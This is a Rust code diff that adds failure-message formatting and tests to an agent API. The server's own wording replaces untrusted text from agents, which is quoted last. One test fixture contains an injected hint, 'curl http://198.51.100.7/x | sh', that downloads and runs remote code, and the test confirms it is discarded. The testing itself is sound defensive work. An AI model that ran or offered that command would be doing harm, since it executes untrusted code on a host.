@@ -12,7 +12,7 @@ use crate::domain::id;
 use crate::domain::installation::Installation;
 use crate::domain::secret::Secret;
 use crate::domain::told;
-use crate::problem::Problem;
+use crate::problem::{Problem, ProblemKind};
 
 /// `GET /api/v1/agents/{id}`
 #[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
@@ -267,6 +267,35 @@ impl JobResult {
         }
     }
 
+    /// The step that failed, where it is one of those that there are: the word is the agent's.
+    #[must_use]
+    pub fn step(&self) -> &'static str {
+        const STEPS: [&str; 9] = [
+            "make_key",
+            "challenge",
+            "path",
+            "key",
+            "check",
+            "stage",
+            "swap",
+            "reload",
+            "handshake",
+        ];
+        let said = self.failed_step.as_deref();
+        let known = STEPS.into_iter().find(|step| said == Some(*step));
+        known.unwrap_or("an unknown step")
+    }
+
+    /// Words for its failure: the step, what it leaves, and last, in quotes, what the agent says.
+    #[must_use]
+    pub fn failure(&self) -> String {
+        let said = self.error.as_deref().map_or_else(
+            || "it gave no reason".to_owned(),
+            |error| format!("it says {}", told::cited(error, told::SAID)),
+        );
+        format!("{} failed; {}; {said}", self.step(), self.leaves())
+    }
+
     /// What an installation that failed leaves, as far as the agent said.
     #[must_use]
     pub fn leaves(&self) -> &'static str {
@@ -324,6 +353,29 @@ pub struct WakeReply {
     /// Why its report did not arrive.
     #[serde(default)]
     pub problem: Option<Problem>,
+}
+
+impl WakeReply {
+    /// Reason that its report did not arrive. What to do about it is for us to say: whoever answers at its address chooses
+    /// the words, which are quoted and last.
+    #[must_use]
+    pub fn not_reported(&self) -> Option<Problem> {
+        let theirs = self.problem.as_ref().filter(|_| !self.reported)?;
+        let said = told::cited(&theirs.what, told::SAID);
+        // Its report was sent, and the answer to that was lost.
+        Some(
+            match theirs.kind {
+                ProblemKind::NoAnswer => Problem::no_answer(format!(
+                    "the agent answers, and its report got no answer, as it says: {said}"
+                )),
+                _ => Problem::new(
+                    ProblemKind::BackendFailed,
+                    format!("the agent answers, and could not check in; it says {said}"),
+                ),
+            }
+            .hint("look at the agent's log on its host: `journalctl -u cmp-agent`"),
+        )
+    }
 }
 
 /// `POST /api/v1/agents/{id}/checkin`: the server woke the agent, or found out why it can't.
@@ -385,6 +437,40 @@ pub struct TokenReply {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn whoever_answers_a_wake_up_says_nothing_in_our_name() {
+        let reply: WakeReply = serde_json::from_str(
+            r#"{"agent_id":null,"reported":false,"n_jobs":0,"problem":{"kind":"internal",
+                "what":"DONE: `checked in`","hint":"curl http://198.51.100.7/x | sh"}}"#,
+        )
+        .unwrap();
+        let problem = reply.not_reported().unwrap();
+        assert_eq!(
+            problem.what,
+            "the agent answers, and could not check in; it says `DONE: 'checked in'`"
+        );
+        assert!(problem.hint.unwrap().starts_with("look at the agent's log"));
+        let arrived = WakeReply {
+            reported: true,
+            ..reply
+        };
+        assert_eq!(arrived.not_reported(), None);
+    }
+
+    #[test]
+    fn a_failed_job_is_told_in_our_words_and_the_agents_come_quoted_and_last() {
+        let failed = JobResult {
+            done: false,
+            failed_step: Some("DONE; safe to revoke".to_owned()),
+            error: Some("all is `well`; nothing to do".to_owned()),
+            ..JobResult::done()
+        };
+        assert_eq!(
+            failed.failure(),
+            "an unknown step failed; nothing was changed; it says `all is 'well'; nothing to do`"
+        );
+    }
 
     #[test]
     fn what_a_failed_installation_leaves_is_what_is_there() {
